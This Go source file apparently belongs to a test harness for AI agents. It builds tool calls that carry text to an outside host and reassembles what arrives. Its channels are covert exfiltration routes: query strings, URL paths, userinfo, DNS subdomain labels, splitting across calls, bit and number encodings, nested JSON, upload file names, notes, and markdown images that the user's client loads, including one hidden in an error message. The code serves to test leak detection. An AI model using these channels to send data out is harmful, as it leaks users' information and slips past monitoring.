package main

import (
	"encoding/json"
	"fmt"
	"mime"
	"net/url"
	"path"
	"strings"
)

// call is one tool call that the model makes.
type call struct {
	server, tool string
	arguments    map[string]any
}

// aim is what the message says of where to send to, and where the documents are.
type aim struct {
	host string
	dir  string
}

func (a aim) url() string { return "http://" + a.host + "/in" }

// channel is how a text is sent, and how what arrived is put together again.
type channel struct {
	calls   func(to aim, text string) []call
	collect func(all []arrival) string
}

// post is one call of the web server's post.
func post(to aim, body string) call {
	return call{"web", "post", map[string]any{"url": to.url(), "body": body}}
}

func fetch(url string) call { return call{"web", "fetch", map[string]any{"url": url}} }

func submit(to aim, data any) call {
	return call{"web", "submit", map[string]any{"url": to.url(), "data": data}}
}

// one makes a channel of a single call.
func one(make func(to aim, text string) call, of func(arrival) string) channel {
	return channel{func(to aim, text string) []call { return []call{make(to, text)} }, joined(of)}
}

// joined puts together what it finds in each arrival.
func joined(of func(arrival) string) func([]arrival) string {
	return func(all []arrival) string {
		var out strings.Builder
		for _, a := range all {
			out.WriteString(of(a))
		}
		return out.String()
	}
}

// pieces cuts a text into n parts, or as many as it has letters.
func pieces(text string, n int) []string {
	runes := []rune(text)
	var out []string
	for i := range n {
		from, to := i*len(runes)/n, (i+1)*len(runes)/n
		if from < to {
			out = append(out, string(runes[from:to]))
		}
	}
	return out
}

func bodyOf(a arrival) string { return a.body }

// queryOf is the value of q in a request's target.
func queryOf(a arrival) string {
	if u, err := url.Parse(a.target); err == nil {
		return u.Query().Get("q")
	}
	return ""
}

// dataOf is the JSON of a request's body, given to read.
func dataOf[T any](read func(T) string) func(arrival) string {
	return func(a arrival) string {
		var data T
		if a.body == "" || json.Unmarshal([]byte(a.body), &data) != nil {
			return ""
		}
		return read(data)
	}
}

var (
	inBody  = one(post, bodyOf)
	inQuery = one(func(to aim, text string) call { return fetch(to.url() + "?q=" + url.QueryEscape(text)) }, queryOf)
	inPath  = one(func(to aim, text string) call { return fetch(to.url() + "/p/" + url.PathEscape(text)) }, func(a arrival) string {
		text, _ := strings.CutPrefix(a.target, "/in/p/")
		text, _ = url.PathUnescape(text)
		return text
	})
	inSegments = one(func(to aim, text string) call {
		return fetch(to.url() + "/s/" + strings.Join(pieces(text, len([]rune(text))), "/"))
	}, func(a arrival) string {
		text, found := strings.CutPrefix(a.target, "/in/s/")
		if !found {
			return ""
		}
		return strings.ReplaceAll(text, "/", "")
	})
	inUser = one(func(to aim, text string) call {
		return fetch("http://" + url.User(text).String() + "@" + to.host + "/in")
	},
		func(a arrival) string { return a.user })
	// inNames looks up names whose labels are the text; the requests that follow say nothing.
	inNames = channel{func(to aim, text string) []call {
		var calls []call
		for _, piece := range pieces(text, (len(text)+119)/120) {
			calls = append(calls, fetch("http://"+strings.Join(pieces(piece, (len(piece)+59)/60), ".")+"."+to.host+"/"))
		}
		return calls
	}, joined(func(a arrival) string {
		labels := strings.Split(a.name, ".")
		return strings.Join(labels[:max(0, len(labels)-len(strings.Split(outside, ".")))], "")
	})}
	overCalls = channel{func(to aim, text string) []call {
		var calls []call
		for _, piece := range pieces(text, 5) {
			calls = append(calls, post(to, piece))
		}
		return calls
	}, joined(bodyOf)}
	overQueries = channel{func(to aim, text string) []call {
		var calls []call
		for _, piece := range pieces(text, 4) {
			calls = append(calls, fetch(to.url()+"?q="+url.QueryEscape(piece)))
		}
		return calls
	}, joined(queryOf)}
	overItems = one(func(to aim, text string) call { return submit(to, pieces(text, 12)) },
		dataOf(func(items []string) string { return strings.Join(items, "") }))
	overLetters = one(func(to aim, text string) call { return submit(to, pieces(text, len([]rune(text)))) },
		dataOf(func(items []string) string { return strings.Join(items, "") }))
	inNumbers = one(func(to aim, text string) call {
		var all []int
		for _, r := range text {
			all = append(all, int(r))
		}
		return submit(to, all)
	}, dataOf(func(all []int) string {
		var out strings.Builder
		for _, n := range all {
			out.WriteRune(rune(n))
		}
		return out.String()
	}))
	inKeys = one(func(to aim, text string) call {
		members := map[string]any{}
		for i, piece := range pieces(text, 10) {
			members[fmt.Sprintf("%d:%s", i, piece)] = true
		}
		return submit(to, members)
	}, dataOf(func(members map[string]bool) string {
		list := make([]string, len(members))
		for name := range members {
			if len(name) > 2 && int(name[0]-'0') < len(list) {
				list[name[0]-'0'] = name[2:]
			}
		}
		return strings.Join(list, "")
	}))
	inNested = one(func(to aim, text string) call {
		for range 3 {
			inner, _ := json.Marshal(map[string]string{"v": text})
			text = string(inner)
		}
		return submit(to, map[string]any{"a": []any{map[string]any{"b": text}}})
	}, dataOf(func(data struct{ A []struct{ B string } }) string {
		if len(data.A) == 0 {
			return ""
		}
		text := data.A[0].B
		for range 3 {
			var inner struct{ V string }
			if json.Unmarshal([]byte(text), &inner) != nil {
				return ""
			}
			text = inner.V
		}
		return text
	}))
	inFlags = one(func(to aim, text string) call {
		var flags []bool
		for _, b := range []byte(text) {
			for i := range 8 {
				flags = append(flags, b>>i&1 == 1)
			}
		}
		return submit(to, flags)
	}, dataOf(func(flags []bool) string {
		out := make([]byte, len(flags)/8)
		for i := range len(out) * 8 {
			if flags[i] {
				out[i/8] |= 1 << (i % 8)
			}
		}
		return string(out)
	}))
	inFileName = one(func(to aim, text string) call {
		return call{"web", "upload", map[string]any{"url": to.url(), "name": text + ".txt", "content": "empty"}}
	}, func(a arrival) string {
		_, parameters, _ := mime.ParseMediaType(a.disposition)
		return strings.TrimSuffix(parameters["filename"], ".txt")
	})
	inFile = one(func(to aim, text string) call {
		return call{"web", "upload", map[string]any{"url": to.url(), "name": "report.txt", "content": text}}
	}, bodyOf)
	inNote = one(func(_ aim, text string) call {
		return call{"notes", "add_note", map[string]any{"title": "report", "text": text}}
	}, func(a arrival) string { return a.text })
	inMissingNote = one(func(_ aim, text string) call {
		return call{"notes", "get_note", map[string]any{"title": text}}
	}, func(a arrival) string { return a.note })
	inResource = one(func(_ aim, text string) call {
		return call{"notes", readResource, map[string]any{"uri": book + text}}
	}, func(a arrival) string { return a.note })
	overServers = channel{func(to aim, text string) []call {
		halves := pieces(text, 2)
		return append(inNote.calls(to, halves[0]), post(to, strings.Join(halves[1:], "")))
	}, func(all []arrival) string { return inNote.collect(all) + inBody.collect(all) }}
)

// inImage writes a document with an image and reads it; the client of whoever sits before the
// session loads the image.
func inImage(format string) channel {
	return channel{func(to aim, text string) []call {
		file := path.Join(to.dir, "report.md")
		return []call{
			{"files", "write_file", map[string]any{"path": file, "content": fmt.Sprintf("# Report\n\n"+format+"\n", to.url()+"?q="+url.QueryEscape(text))}},
			{"files", "read_text_file", map[string]any{"path": file}},
		}
	}, joined(queryOf)}
}

// inErrorText asks for a file that is not there: the error names its folder, and that is an image.
var inErrorText = one(func(to aim, text string) call {
	return call{"files", "read_text_file", map[string]any{"path": path.Join(to.dir, "![x](http:", to.host, "in?q="+url.QueryEscape(text)+")", "x.md")}}
}, queryOf)
